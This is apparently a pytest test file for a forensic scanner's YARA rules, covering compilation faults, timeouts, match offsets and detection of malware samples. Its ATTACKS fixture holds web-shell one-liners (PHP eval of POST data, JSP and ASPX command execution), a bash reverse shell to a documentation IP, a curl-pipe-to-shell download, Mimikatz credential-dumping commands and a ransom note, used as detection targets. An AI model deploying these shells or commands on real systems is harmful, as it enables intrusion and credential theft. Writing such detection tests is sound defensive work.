# SPDX-License-Identifier: Apache-2.0
"""YARA: a broken rule costs itself alone, matches stand where the bytes are, a slow rule is left out and named."""

from __future__ import annotations

import os
import random
from collections.abc import Iterator
from pathlib import Path

import pytest
import yara_x

from headwater.examine import yara_held, yara_matches
from headwater.examine.yara_matches import OVERLAP, WINDOW, scan, shown
from headwater.examine.yara_own import OWN_RULES
from headwater.examine.yara_rules import Compiled, RuleFile, compile_rules
from headwater.formats.sources import MemorySource

NEEDLES = """
rule needle { meta: author = "A" score = 80 strings: $a = "NEEDLE-OF-THE-TEST" $x = "hidden-by-xor" xor(1-255) condition: any of them }
rule small { condition: filesize < 10 }
"""


def _hold(compiled: Compiled) -> None:
    fds = []
    for data in (compiled.whole, compiled.quick):
        if data:
            fds.append(os.memfd_create("rules"))
            os.write(fds[-1], data)
    yara_held.hold({"by_name": compiled.by_name}, fds)
    for fd in fds:
        os.close(fd)


@pytest.fixture(scope="module")
def needles() -> Iterator[None]:
    _hold(compile_rules([RuleFile("needles.yar", NEEDLES)]))
    yield
    yara_held._Held.whole = yara_held._Held.quick = None


def test_broken_rule_takes_no_other_with_it() -> None:
    text = 'import "no_such"\nrule good { condition: true }\nrule bad { condition: $x }\nrule leans_on_bad { condition: bad }\n'
    compiled = compile_rules(
        [RuleFile("a.yar", text), RuleFile("b.yar", 'include "a.yar"\nrule good { condition: true }')]
    )
    assert compiled.count == {"a.yar": 1, "b.yar": 1}
    assert {(f.file, f.rule, f.line) for f in compiled.faults} == {
        ("a.yar", "", 1), ("a.yar", "bad", 3), ("a.yar", "leans_on_bad", 4), ("b.yar", "", 1),
    }  # fmt: skip


@pytest.mark.parametrize(
    "text", ["", "rule", "rule a {", "\x00\x01", "rule a { condition: }", "/*", "rule é { condition: true }"]
)
def test_text_that_is_no_rule_is_named_and_not_fatal(text: str) -> None:
    compiled = compile_rules([RuleFile("x", text), RuleFile("y", "rule r { condition: true }")])
    assert compiled.count["y"] == 1


def test_public_rules_that_ask_for_a_name_run() -> None:
    compiled = compile_rules([RuleFile("x", 'rule r { condition: filename == "evil.php" and extension == ".php" }')])
    assert compiled.by_name
    assert not compiled.faults
    _hold(compiled)
    assert scan(MemorySource(b"abc"), "/var/www/evil.php", 0, 3).rows
    assert not scan(MemorySource(b"abc"), "/var/www/good.php", 0, 3).rows


def test_slow_rule_is_named_and_left_out_where_it_takes_too_long(monkeypatch: pytest.MonkeyPatch) -> None:
    compiled = compile_rules(
        [RuleFile("x", "rule slow { strings: $a = /.*a.*/ condition: $a }\nrule quick { condition: true }")]
    )
    assert [f.rule for f in compiled.slow] == ["slow"]
    _hold(compiled)
    assert {r["rule"] for r in scan(MemorySource(b"xay"), "/f", 0, 3).rows} == {"slow", "quick"}

    class Late:
        def set_timeout(self, seconds: int) -> None: ...
        def scan(self, data: bytes) -> None:
            raise yara_x.TimeoutError

    monkeypatch.setattr(yara_held._Held, "whole", Late())
    done = scan(MemorySource(b"xay"), "/f", 0, 3)
    assert {r["rule"] for r in done.rows} == {"quick"}
    assert [g.reason for g in done.gaps] == ["incomplete"]
    monkeypatch.setattr(yara_held._Held, "quick", Late())
    done = scan(MemorySource(b"xay"), "/f", 0, 3)
    assert not done.rows
    assert [(g.offset, g.length) for g in done.gaps] == [(0, 3)]


@pytest.mark.usefixtures("needles")
def test_match_stands_where_its_bytes_are() -> None:
    data = bytes(100) + b"NEEDLE-OF-THE-TEST" + bytes(b ^ 0x21 for b in b"hidden-by-xor") + bytes(7)
    rows = scan(MemorySource(data), "/f", 0, len(data)).rows
    whole, *places = rows
    assert (whole["offset"], whole["length"], whole["matches"], whole["severity"]) == (0, len(data), 2, "80")
    assert [(p["offset"], p["length"], p["matched"], p["xor_key"]) for p in places] == [
        (100, 18, "NEEDLE-OF-THE-TEST", None), (118, 13, "hidden-by-xor", 0x21),
    ]  # fmt: skip
    assert [r["ordinal"] for r in rows] == [yara_matches.MATCH + n for n in range(3)]


@pytest.mark.usefixtures("needles")
def test_match_across_windows_is_told_once(monkeypatch: pytest.MonkeyPatch) -> None:
    window = 4 * OVERLAP
    monkeypatch.setattr(yara_matches, "WINDOW", window)
    data = bytearray(b"x" * (3 * window))
    for at in (window - OVERLAP + 5, window - 9, 2 * window, 3 * window - 18):
        data[at : at + 18] = b"NEEDLE-OF-THE-TEST"
    data[2 * window + 100 : 2 * window + 101] = b"y"
    rows = scan(MemorySource(bytes(data)), "/", 0, len(data), windows=True).rows
    places = [r["offset"] for r in rows if "pattern" in r]
    assert places == [window - OVERLAP + 5, window - 9, 2 * window, 3 * window - 18]
    assert len({(r["offset"], r["ordinal"]) for r in rows}) == len(rows)
    assert WINDOW > OVERLAP


@pytest.mark.usefixtures("needles")
def test_thousand_matches_are_bounded_and_counted() -> None:
    data = b"NEEDLE-OF-THE-TEST" * 5000
    rows = scan(MemorySource(data), "/f", 0, len(data)).rows
    assert len(rows) == 1 + yara_matches.EACH_MOST
    assert rows[0]["matches"] == yara_held.PER_PATTERN


def test_bytes_are_shown_on_one_line() -> None:
    assert shown("口令\n".encode()) == "\\xe5\\x8f\\xa3\\xe4\\xbb\\xa4\\x0a"
    assert shown("sekurlsa::".encode("utf-16-le")) == "sekurlsa::"
    assert shown(b"\x1b[31m\\") == "\\x1b[31m\\x5c"


# what the tools' authors write into them, and code of the kind; written here
ATTACKS = {
    "php_runs_request": b"<?php @eval(base64_decode($_POST['z0'])); ?>",
    "jsp_runs_request": b'<%@page import="java.io.*"%><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
    "aspx_runs_request": b'<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>',
    "webshell_default_keys": b'<?php $key="e45e329feb5d925b"; $d=openssl_decrypt($p,"AES128",$key); ?>',
    "webshell_families": b"<?php $default_action = 'FilesMan'; ?>",
    "coin_miner_program": b"\x7fELF" + bytes(60) + b"stratum+tcp://\0donate-level\0randomx\0",
    "coin_miner_config": b'{"pools": [{"url": "pool.example:3333", "user": "4A"}], "donate-level": 1}',
    "reverse_shell_script": b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
    "script_fetches_and_runs": b"#!/bin/sh\nset -e\ncurl -fsS http://203.0.113.9/p | sh\n",
    "tunnel_or_scanner": b"\x7fELF" + bytes(60) + b"github.com/fatedier/frp/client\0",
    "hiding_library_or_module": b"\x7fELF" + bytes(60) + b"/proc/self/fd/%d\0/proc/%s/stat\0readdir\0dlsym\0",
    "privilege_tool": b"privilege::debug sekurlsa::logonpasswords lsadump::sam",
    "bot_program": b"\x7fELF" + bytes(60) + b"/bin/busybox MIRAI\0",
    "ransom_note": b"All your files have been encrypted! Pay 0.5 bitcoin to get the decryptor.",
}  # fmt: skip
ORDINARY = {
    "form.php": b"<?php if (isset($_POST['name'])) { echo htmlspecialchars($_POST['name']); } exec('/usr/bin/convert a b'); ?>",
    "report.jsp": b'<% String id = request.getParameter("id"); out.print(id); %>',
    "page.asp": b"<% name = Request.Form(\"name\") : Response.Write Server.HTMLEncode(name) %>",
    "notes.md": b"To test the firewall, open a listener with nc -l 4444 and connect with nc host 4444. See /dev/tcp in bash(1).",
    "backup.sh": b"#!/bin/sh\ntar czf - /srv | openssl enc -aes-256-cbc -out /backup/srv.tgz.enc\nnc -z db 5432 || exit 1\n",
    "get.sh": b"#!/bin/sh\ncurl -fsSL https://get.example.com | sh\nwget -q http://192.0.2.1/list -O /srv/list\n",
    "server.py": b"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.bind(('', 80))\n",
    "pools.json": b'{"pools": [{"url": "http://db.example"}], "max": 10}',
    "policy.txt": b"All data are encrypted at rest. If a key is lost, the decryption key of the escrow is used.",
    "ip": b"\x7fELF" + bytes(60) + b"/proc/self/fd/%d\0/proc/%s/status\0readdir64\0dlsym\0",
}  # fmt: skip


def test_own_rules_know_what_they_are_for_and_leave_ordinary_files() -> None:
    compiled = compile_rules([RuleFile("headwater", OWN_RULES)])
    assert (compiled.faults, compiled.slow, compiled.quick) == ((), (), b"")
    assert compiled.count == {"headwater": len(ATTACKS)}
    _hold(compiled)
    for rule, data in ATTACKS.items():
        assert rule in {r["rule"] for r in scan(MemorySource(data), "/x", 0, len(data)).rows}, rule
    for name, data in ORDINARY.items():
        assert not scan(MemorySource(data), f"/{name}", 0, len(data)).rows, name


@pytest.mark.long
@pytest.mark.skipif("HEADWATER_LONG" not in os.environ, reason="reads the whole system: make test-long")
def test_own_rules_match_nothing_that_the_system_brings() -> None:
    _hold(compile_rules([RuleFile("headwater", OWN_RULES)]))
    found = []
    for folder in ("/usr/bin", "/usr/sbin", "/usr/lib", "/usr/share", "/etc"):
        for at, _, names in os.walk(folder):
            for name in names:
                path = os.path.join(at, name)
                if os.path.isfile(path) and not os.path.islink(path) and os.access(path, os.R_OK):
                    with open(path, "rb") as file:
                        data = file.read(32 << 20)
                    found += [
                        (path, r["rule"])
                        for r in scan(MemorySource(data), path, 0, len(data)).rows
                        if "pattern" not in r
                    ]
    assert found == []


def test_hostile_bytes_do_not_stop_a_scan() -> None:
    _hold(
        compile_rules(
            [
                RuleFile(
                    "x",
                    'import "pe"\nimport "elf"\nrule r { condition: pe.number_of_sections > 3 or elf.type == elf.ET_DYN }',
                )
            ]
        )
    )
    dice = random.Random(7)
    for head in (b"MZ", b"\x7fELF\x02\x01\x01", b"dex\n035\0", b"\xca\xfe\xba\xbe", b""):
        for _ in range(20):
            data = head + dice.randbytes(dice.randrange(4096))
            scan(MemorySource(data), "/x", 0, len(data))


SAME = """
import "elf"
rule program { strings: $a = "GLIBC_2." $b = { 7f 45 4c 46 02 } condition: $b at 0 and #a > 1 }
rule words { strings: $a = /us(er|ing) [a-z]{2,9}/ nocase $b = "error" wide ascii condition: any of them }
rule kind { condition: elf.type == elf.ET_DYN }
rule head { strings: $a = "#!" condition: $a at 0 and filesize < 64KB }
rule nothing { strings: $a = "no file holds these words together 1f8b" condition: $a }
"""


def test_what_is_told_is_what_the_engine_alone_finds() -> None:
    """The same rules with nothing of ours around them, over files of this machine, files of zeros, and an empty one."""
    compiled = compile_rules([RuleFile("same.yar", SAME)])
    _hold(compiled)
    files = [b"", bytes(5000), bytes(70_000) + b"user name", b"#!" + bytes(9), b"\0\0error"]
    for place in ("/usr/bin", "/etc", "/usr/lib/python3"):
        found = sorted(p for p in Path(place).rglob("*") if p.is_file() and os.access(p, os.R_OK))[:40]
        files += [p.read_bytes()[:300_000] for p in found]
    engine = yara_x.Scanner(yara_x.compile(SAME))
    matched = 0
    for data in files:
        wanted = {
            r.identifier: {m.offset for p in r.patterns for m in p.matches} for r in engine.scan(data).matching_rules
        }
        told = scan(MemorySource(data), "/f", 0, len(data))
        assert told.gaps == []
        assert {r["rule"] for r in told.rows} == set(wanted)
        for row in told.rows:
            assert row.get("pattern") is None or row["offset"] in wanted[row["rule"]]
        matched += len(wanted)
    assert matched > 20
